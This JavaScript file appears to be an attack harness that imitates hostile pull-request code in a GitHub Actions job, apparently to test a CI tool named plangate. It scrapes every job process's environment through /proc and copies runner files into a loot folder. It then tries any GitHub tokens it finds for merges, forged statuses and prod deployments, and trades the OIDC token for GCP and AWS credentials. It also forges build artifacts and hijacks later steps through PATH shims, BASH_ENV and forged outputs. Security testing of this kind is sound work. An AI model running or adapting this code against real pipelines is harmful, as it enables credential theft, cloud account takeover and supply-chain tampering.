/**
 * What the code of a change does once the tool starts it: it takes whatever the machine of its job holds, tries every
 * token that it found on GitHub, wants to be everybody in the cloud, forges artifacts, and speaks to later steps.
 *
 *     code-of-a-change SUBCOMMAND ABOUT.json
 *
 * What it found lies as text in the folder `loot`, what it did as one line of JSON each in `did.jsonl`.
 */
import { execFileSync } from "node:child_process";
import { appendFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";

const [subcommand = "", aboutFile = ""] = process.argv.slice(2);
const about = JSON.parse(readFileSync(aboutFile, "utf8"));

const variables = allVariables();
const found = [variables.map(([name, value]) => `${name}=${value}`).join("\n"), ...everyFile()].join("\n");
const value = (name) => variables.findLast(([key]) => key === name)?.[1];
const job = value("GITHUB_JOB");
mkdirSync(join(about.dir, "loot"), { recursive: true });
appendFileSync(join(about.dir, "loot", `${job}.${subcommand}`), found);
for (const token of new Set(found.match(/\bgh[a-z]_[A-Za-z0-9_]{10,}/g) ?? [])) await tryOnGitHub(token);
await tryInTheCloud();
forgeArtifacts();
speakToLaterSteps();
did("looked", `${variables.length} variables`, null);

function did(what, target, outcome) {
  appendFileSync(join(about.dir, "did.jsonl"), `${JSON.stringify({ job, subcommand, what, target, outcome })}\n`);
}

/** Of every process of the job's machine: itself, its forebears, and all that these have started. */
function allVariables() {
  const all = readdirSync("/proc").flatMap((name) => {
    if (!/^\d+$/.test(name)) return [];
    try {
      const parent = Number(/^PPid:\s*(\d+)/m.exec(readFileSync(`/proc/${name}/status`, "utf8"))?.[1]);
      const text = ["environ", "cmdline"].map((file) => readFileSync(`/proc/${name}/${file}`, "utf8")).join("\0");
      return [{ id: Number(name), parent, text: text.split("\0") }];
    } catch {
      return [];
    }
  });
  const forebears = [];
  for (let one = all.find(({ id }) => id === process.pid); one !== undefined; ) {
    forebears.push(one);
    one = all.find(({ id }) => id === one.parent);
  }
  const mark = forebears.flatMap(({ text }) => text).find((line) => line.startsWith("RUNNER_TRACKING_ID="));
  const ours = all.filter((one) => one.id === process.pid || (mark !== undefined && one.text.includes(mark)));
  return ours.flatMap(({ text }) =>
    text.map((line) => [line.slice(0, Math.max(0, line.indexOf("="))), line.slice(line.indexOf("=") + 1)]),
  );
}

/** Of the machine: what is temporary, the home, the repository with Git's own settings. */
function everyFile() {
  const temp = variables.findLast(([name]) => name === "RUNNER_TEMP")?.[1];
  if (temp === undefined) return [];
  return readdirSync(dirname(temp), { recursive: true, withFileTypes: true }).flatMap((entry) => {
    const path = join(entry.parentPath, entry.name);
    try {
      return entry.isFile() && statSync(path).size < 200_000 ? [readFileSync(path, "latin1")] : [];
    } catch {
      return [];
    }
  });
}

async function tryOnGitHub(token) {
  const { repository, change, head } = about;
  const attempts = [
    ["GET", `/repos/${repository}`],
    ["POST", `/repos/${repository}/issues/${change}/comments`, { body: about.forged }],
    ["POST", `/repos/${repository}/check-runs`, { name: about.forged, head_sha: head, conclusion: "success" }],
    ["POST", `/repos/${repository}/statuses/${head}`, { state: "success", context: about.forged }],
    ["POST", `/repos/${repository}/actions/workflows/plangate.yml/dispatches`, { ref: "main" }],
    ["PUT", `/repos/${repository}/pulls/${change}/merge`, { merge_method: "squash" }],
    ["POST", `/repos/${repository}/git/refs`, { ref: "refs/heads/forged", sha: head }],
    ["POST", `/repos/${repository}/deployments`, { ref: "main", environment: "prod", required_contexts: [] }],
  ];
  for (const [method, path, body] of attempts) {
    const { status } = await fetch(about.api + path, {
      method,
      headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    did("token", `${method} ${path.replace(`/repos/${repository}`, "")}`, status);
  }
}

async function tryInTheCloud() {
  const url = value("ACTIONS_ID_TOKEN_REQUEST_URL");
  if (url === undefined) return did("identity", "no token for an identity", null);
  const tokenFor = async (audience) => {
    const answer = await fetch(`${url}&audience=${encodeURIComponent(audience)}`, {
      headers: { authorization: `Bearer ${value("ACTIONS_ID_TOKEN_REQUEST_TOKEN")}` },
    });
    return answer.ok ? (await answer.json()).value : "";
  };
  const post = (path, body, headers = {}) =>
    fetch(about.google + path, {
      method: "POST",
      headers: { ...headers, "content-type": "application/json" },
      body: JSON.stringify(body),
    });
  for (const provider of about.providers) {
    const audience = `//iam.googleapis.com/${provider}`;
    const answer = await post("/v1/token", { audience, subjectToken: await tokenFor(`https:${audience}`) });
    did("identity", provider, answer.ok ? "given" : "refused");
    if (!answer.ok) continue;
    const authorization = `Bearer ${(await answer.json()).access_token}`;
    for (const account of about.accounts) {
      const path = `/v1/projects/-/serviceAccounts/${encodeURIComponent(account)}:generateAccessToken`;
      did("identity", account, (await post(path, {}, { authorization })).ok ? "given" : "refused");
    }
  }
  const WebIdentityToken = await tokenFor("sts.amazonaws.com");
  for (const RoleArn of about.roles) {
    const body = new URLSearchParams({ Action: "AssumeRoleWithWebIdentity", RoleArn, WebIdentityToken });
    did("identity", RoleArn, (await fetch(about.aws, { method: "POST", body })).ok ? "given" : "refused");
  }
}

/** By the token that GitHub gives to actions, whose right is over all artifacts of the run. */
function forgeArtifacts() {
  const names = ["ACTIONS_RUNTIME_TOKEN", "ACTIONS_RESULTS_URL"];
  const env = { PATH: process.env.PATH, ...Object.fromEntries(names.map((name) => [name, value(name)])) };
  if (env.ACTIONS_RUNTIME_TOKEN === undefined) return;
  const folder = mkdtempSync(join(about.dir, "forged-"));
  const plan = join(folder, "0".repeat(64));
  mkdirSync(plan);
  const claim = { text: JSON.stringify({ stack: "prod/infra", run: "run-0mhx3k2p0a1b2c3d4" }), signature: "AAAA" };
  for (const name of ["manifest.json", "claim.json"]) writeFileSync(join(plan, name), JSON.stringify(claim));
  writeFileSync(join(plan, "part-0"), about.forged);
  const run = value("GITHUB_RUN_ID");
  for (const name of ["plangate-plan-prod-0", "plangate-plan-test-9", `plangate-bundles-${run}-1-decide`]) {
    execFileSync("hostile-artifact", ["put", name, folder], { env });
    did("artifact", name, null);
  }
}

/** By the files that its job's steps write for the next ones, whose places are variables of the step. */
function speakToLaterSteps() {
  const bin = join(about.dir, "bin");
  mkdirSync(bin, { recursive: true });
  const program = `#!/bin/sh\nenv >> ${join(about.dir, "later-steps")}\n`;
  for (const name of ["npx", "node", "git", "bash.sh"]) writeFileSync(join(bin, name), program, { mode: 0o755 });
  const lines = {
    GITHUB_PATH: bin,
    GITHUB_ENV: `BASH_ENV=${join(bin, "bash.sh")}\nTF_PLUGIN_CACHE_DIR=${bin}\nPLANGATE_OPEN_KEY=forged`,
    GITHUB_OUTPUT: `applies={"prod":[{"index":0,"orders":[]}]}\nplans={"prod":[{"index":0,"orders":[]}]}`,
    GITHUB_STEP_SUMMARY: about.forged,
  };
  for (const [name, line] of Object.entries(lines)) {
    const file = value(name);
    if (file === undefined) continue;
    appendFileSync(file, `${line}\n`);
    did("later steps", name, null);
  }
}
